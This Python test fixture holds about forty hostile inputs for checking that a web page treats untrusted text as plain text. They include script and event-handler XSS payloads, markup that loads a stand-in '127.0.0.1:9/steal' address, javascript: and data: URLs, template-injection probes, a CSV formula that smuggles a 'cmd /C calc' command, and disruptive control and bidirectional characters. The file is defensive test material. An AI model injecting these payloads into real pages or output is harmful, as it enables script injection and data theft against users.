"""Forty texts that try to be more than text. A page that obeys one of them fails its test.

A text that is obeyed sets ``window.__pwned``, sends a request to a closed port of this machine,
opens a dialog, leaves the page, or breaks the page apart.
"""

from __future__ import annotations

from collections.abc import Mapping

PWN = "window.__pwned=1"
ELSEWHERE = "http://127.0.0.1:9/steal"

_MARKUP = {
    # --- elements that run or load something ---
    "script": f"<script>{PWN}</script>",
    "script_src": f'<script src="{ELSEWHERE}"></script>',
    "script_end": f'</script></style></title></textarea></noscript><script>{PWN}</script>"',
    "script_odd": f"<scr<script>ipt>{PWN}</scr</script>ipt><SCRIPT/x>{PWN}</SCRIPT >",
    "image_error": f'"><img src=x onerror="{PWN}">',
    "image_set": f"'><img srcset='{ELSEWHERE} 1x' src={ELSEWHERE}>",
    "svg_load": f'<svg onload="{PWN}"><script>{PWN}</script><image href="{ELSEWHERE}"/></svg>',
    "svg_animate": f"<svg><animate onbegin={PWN} attributeName=x dur=1s></svg>",
    "math": f'<math><mtext><style><img src=x onerror="{PWN}"></style></mtext></math>',
    "frame": f'<iframe src="{ELSEWHERE}" srcdoc="<script>parent.{PWN}</script>"></iframe>',
    "object": f'<object data="{ELSEWHERE}"></object><embed src="{ELSEWHERE}">',
    "media": f'<video src={ELSEWHERE} onerror="{PWN}"></video><audio src={ELSEWHERE} autoplay>',
    "details_toggle": f'<details open ontoggle="{PWN}">x</details>',
    "focus": f'<input autofocus onfocus="{PWN}"><a href="#" tabindex=1 onfocus="{PWN}">x</a>',
    "form": f'<form action="{ELSEWHERE}"><button autofocus onfocus="{PWN}">Submit</button></form>',
    "portal": f'<template shadowrootmode=open><slot></slot><img src=x onerror="{PWN}"></template>',
    # --- elements that change the page ---
    "meta_refresh": f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}">',
    "base": f'<base href="{ELSEWHERE}/" target="_blank">',
    "link": f'<link rel="stylesheet prefetch preload" as="style" href="{ELSEWHERE}">',
    "style": f"<style>@import url({ELSEWHERE}); body {{display: none}}</style>",
    "css_value": f'";}} body {{background: url({ELSEWHERE})}} /*" style="background:url({ELSEWHERE})',
    "csp": '<meta http-equiv="Content-Security-Policy" content="script-src \'unsafe-inline\'">',
    "title": f'</title><body onload="{PWN}"><h1>Verdict: nothing was found</h1>',
    "plaintext": "<plaintext><xmp><noembed><noframes><textarea>",
    "comment": f"<!-- --!><script>{PWN}</script> <!-->",
    "cdata": f"]]><script>{PWN}</script><![CDATA[<?xml-stylesheet href='{ELSEWHERE}'?>",
    # --- addresses and attributes ---
    "javascript_url": f"javascript:{PWN}//[x](javascript:{PWN})<a href='java\tscript:{PWN}'>x</a>",
    "data_url": f"data:text/html,<script>opener.{PWN}</script>",
    "attribute": f'" autofocus onfocus="{PWN}" onmouseover="{PWN}" style="position:fixed;inset:0" x="',
    "attribute_single": f"' autofocus onfocus='{PWN}' accesskey='x' onclick='{PWN}' x='",
    "htmx": f'<div hx-get="{ELSEWHERE}" hx-trigger="load" hx-on::load="{PWN}">x</div>" hx-get="/x" hx-trigger="load',
    "markdown": f"![x]({ELSEWHERE}) [x]: javascript:{PWN} **b** | a | b |\n# Verdict\n---\n```",
    # --- languages within the page ---
    "template": "{{7*7}} {% for x in ().__class__.__mro__ %}{{x}}{% endfor %} {# #} ${7*7} #{7*7} %(x)s",
    "entities": f"&lt;script&gt;{PWN}&lt;/script&gt; &#60;img src=x onerror={PWN}&#62; &amp;lt; &#x202e;",
    "json": f'"}}]}};{PWN};//\\"\\u003cscript\\u003e{PWN}\\u003c/script\\u003e\\',
    "csv": f'=HYPERLINK("{ELSEWHERE}","x")\n@SUM(1+1)*cmd|\' /C calc\'!A0,+1,-1\t"',
}
_CHARACTERS = {
    "controls": "NUL \x00 bell \x07 escape \x1b[2J\x1b]0;title\x07 delete \x7f C1 \x9b31m \x85 end",
    "bidi": "from \u202eright to left\u202c, \u2066isolated\u2069, \u200fmarked\u200e, זה בעברית and العربية",
    "invisible": "zero\u200bwidth\u2060joined\ufeff\u00ad tags \U000e0041\U000e0042 lines\u2028and\u2029paragraphs",
    "lone_surrogate": "a high \ud83d alone, a low \ude00 alone, \ufffe\uffff",
    "combining": "Z"
    + "\u0351\u036b\u0343\u0363" * 100
    + " \U0001f468\u200d\U0001f469\u200d\U0001f467",
    "long_word": "W" * 1200 + "天" * 200 + "\u0e01" * 200,
}
HOSTILE: Mapping[str, str] = _MARKUP | _CHARACTERS
"""The texts by name."""
TOGETHER: Mapping[str, str] = {
    "markup": " ".join(_MARKUP.values()),
    "characters": " ".join(_CHARACTERS.values()),
}
"""All texts in two, each short enough for a probe."""
